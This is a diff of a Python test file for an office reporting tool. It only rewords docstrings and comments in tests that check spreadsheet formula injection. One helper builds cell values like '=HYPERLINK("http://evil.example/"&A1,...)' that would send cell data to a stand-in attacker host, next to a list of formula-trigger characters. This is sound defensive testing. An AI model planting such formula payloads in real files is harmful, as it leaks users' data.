@@ -39,7 +39,7 @@ from xlplan.office.setup import helper_log
 from xlplan.terms.errors import TemplateError
 
 EVIL = "evil.example"
-# What makes Excel, WPS or Calc take a typed text, or one of a CSV file, for a formula.
+# First characters by which Excel, WPS or Calc take a typed text, or one of a CSV file, for a formula.
 STARTS = (
     "=",
     "+",
@@ -64,12 +64,12 @@ linux = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="looks a
 
 
 def hostile(number: int) -> str:
-    """A text that would call home, were it a formula."""
+    """Return a text that would call home, were it a formula."""
     return f'{STARTS[number % len(STARTS)]}HYPERLINK("http://{EVIL}/"&A1,"第{number}处")'
 
 
 def fill_hostile(filled: Filled) -> None:
-    """Every field that a department may fill in begins like a formula."""
+    """Fill every field of a department with a text that begins like a formula."""
     cells = [filled.cell(task, name) for task in filled.tasks for name in FREE]
     for number, cell in enumerate([*cells, *(filled.person(label) for label in ("填报人", "联系电话", "审核人"))]):
         cell.value = "x"
@@ -89,7 +89,7 @@ def parts(path: Path) -> Iterator[tuple[str, bytes]]:
 
 
 def assert_no_formula(path: Path) -> None:
-    """That nothing of what departments wrote is run, or leads anywhere, in a workbook or a Word paper."""
+    """Assert that nothing that departments wrote is run, or links anywhere, in a workbook or a Word paper."""
     for name, part in parts(path):
         text = part.decode("utf-8", "replace")
         if name.endswith(".rels"):
@@ -208,7 +208,7 @@ def test_the_buttons_write_it_as_text_into_the_open_workbook(tmp_path: Path, nee
 
 @pytest.fixture
 def works(tmp_path: Path) -> Office:
-    """A small office that has handed out."""
+    """Set up a small office that has handed out."""
     office = Office.small(tmp_path, settings=SETTINGS)
     office.do("split")
     return office
@@ -540,7 +540,7 @@ class TestNetwork:
         _, said = process.communicate(timeout=300)
         assert process.returncode == 0, said
         if calc_here := (works.root / "汇总" / works.round / "进展汇总.pdf").exists():
-            # LibreOffice made it, and was watched too.
+            # LibreOffice was watched when it made this one too.
             assert "AF_UNIX" in trace.read_text("utf-8", "replace")
         assert calc_here or not programs.shutil.which("soffice")
         self.assert_quiet(trace)
